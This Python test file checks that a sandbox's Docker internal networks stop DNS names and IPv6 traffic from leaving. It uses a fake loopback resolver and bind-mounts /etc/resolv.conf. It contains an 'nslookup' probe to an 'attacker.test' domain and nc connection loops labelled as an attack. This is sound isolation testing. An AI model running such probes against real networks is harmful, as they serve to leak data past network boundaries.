"""Internal means internal: what leaves an internal network all the same, by name and by IPv6."""

from __future__ import annotations

import contextlib
import os
import socket
import struct
import subprocess
import threading
from collections.abc import Iterator

import pytest
from support.docker_engine import Engine
from support.weakened_sandbox import Proof

from odek.sandbox.network.attach import inspect_networks
from odek.sandbox.network.plan import NetworkPlan, NetworkRequest

pytestmark = pytest.mark.docker_only  # with podman networks are refused


@pytest.fixture
def networks(docker_engine: Engine, proof: Proof) -> Iterator[NetworkPlan]:
    """An internal network with IPv6."""
    name = f"odek-internal-{os.getpid()}"
    docker_engine.run("network", "create", "--internal", "--ipv6", "--subnet", "fd00:0d:e1::/64", name)
    yield inspect_networks(NetworkRequest(names=(name,)), proof.boxes.docker)
    proof.close()
    for box in proof.boxes._open:
        box.close()
    docker_engine.run("network", "rm", name)


@contextlib.contextmanager
def resolver_on_loopback(engine: Engine) -> Iterator[list[str]]:
    """A resolver as systemd-resolved and dnsmasq run one; the names that it is asked for."""
    del engine
    asked: list[str] = []
    with open("/etc/resolv.conf", encoding="ascii") as file:
        configured = "nameserver 127." in file.read()
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        server.bind(("127.0.0.1", 53))
    except OSError:
        server.close()
        pytest.skip("port 53 of this host is taken, or not ours")
    mounted = False
    if not configured:
        path = f"/tmp/odek-resolv-{os.getpid()}"
        with open(path, "w", encoding="ascii") as file:
            file.write("nameserver 127.0.0.1\n")
        mounted = subprocess.run(["mount", "--bind", path, "/etc/resolv.conf"], check=False).returncode == 0
        if not mounted:
            server.close()
            pytest.skip("the engine's resolver cannot be exchanged here")

    def serve() -> None:
        with contextlib.suppress(OSError):
            while True:
                data, client = server.recvfrom(2000)
                if not data:
                    return
                labels, place = [], 12
                while data[place]:
                    labels.append(data[place + 1 : place + 1 + data[place]].decode())
                    place += 1 + data[place]
                asked.append(".".join(labels))
                answer = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 1, 4) + b"\x05\x05\x05\x05"
                server.sendto(
                    data[:2] + b"\x81\x80" + data[4:6] + b"\0\1\0\0\0\0" + data[12 : place + 5] + answer, client
                )

    thread = threading.Thread(target=serve)
    thread.start()
    try:
        yield asked
    finally:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as last:
            last.sendto(b"", ("127.0.0.1", 53))
        thread.join()
        server.close()
        if mounted:
            subprocess.run(["umount", "/etc/resolv.conf"], check=True)


def test_names_do_not_leave_an_internal_network(proof: Proof, networks: NetworkPlan, docker_engine: Engine) -> None:
    """E4: an engine before 25.0.5 asks the host's resolver for them, which sends them on to whoever owns the domain."""
    look = "nslookup {}.attacker.test; grep nameserver /etc/resolv.conf"
    with resolver_on_loopback(docker_engine) as asked:
        box = proof.boxes.start(networks=networks)
        inside = box.run(look.format("closed"), timeout_s=30).output.text
        none = proof.boxes.start().run(look.format("none"), timeout_s=30).output.text
        proof.weakened("no resolver", networks=networks).output(look.format("open"))
    assert "nameserver 127.0.0.1\n" not in none
    assert "nameserver 127.0.0.11" in inside
    assert {name for name in asked if "open" not in name} == set()
    if docker_engine.release < (25, 0):
        assert "open.attacker.test" in asked


def test_ipv6_does_not_leave_an_internal_network(
    proof: Proof, networks: NetworkPlan, docker_engine: Engine, base_image: str
) -> None:
    """E4: 20.10 filters IPv6 nowhere, so a container of another network is reached; from 26.1 on no way leads there."""
    name = f"odek-outside-{os.getpid()}"
    docker_engine.run("network", "create", "--ipv6", "--subnet", "fd00:0d:e2::/64", name)
    serve = "while :; do echo THROUGH | nc -l -p 9999; done"
    docker_engine.run("run", "--detach", "--init", "--name", name, "--network", name, base_image, "sh", "-c", serve)
    try:
        form = f'{{{{(index .NetworkSettings.Networks "{name}").GlobalIPv6Address}}}}'
        address = docker_engine.run("inspect", "--format", form, name).stdout.strip()
        attack = f"for i in 1 2 3 4; do nc -w 2 {address} 9999 </dev/null && break; sleep 1; done"
        box = proof.boxes.start(networks=networks)
        assert "THROUGH" not in box.run(attack, timeout_s=60).output.text
        assert (box.facts.internet, proof.boxes.said) == (False, [])
        if docker_engine.release < (26, 0):
            assert "THROUGH" in proof.weakened("no ipv6", networks=networks).output(attack)
    finally:
        docker_engine.run("rm", "--force", name)
        docker_engine.run("network", "rm", name)
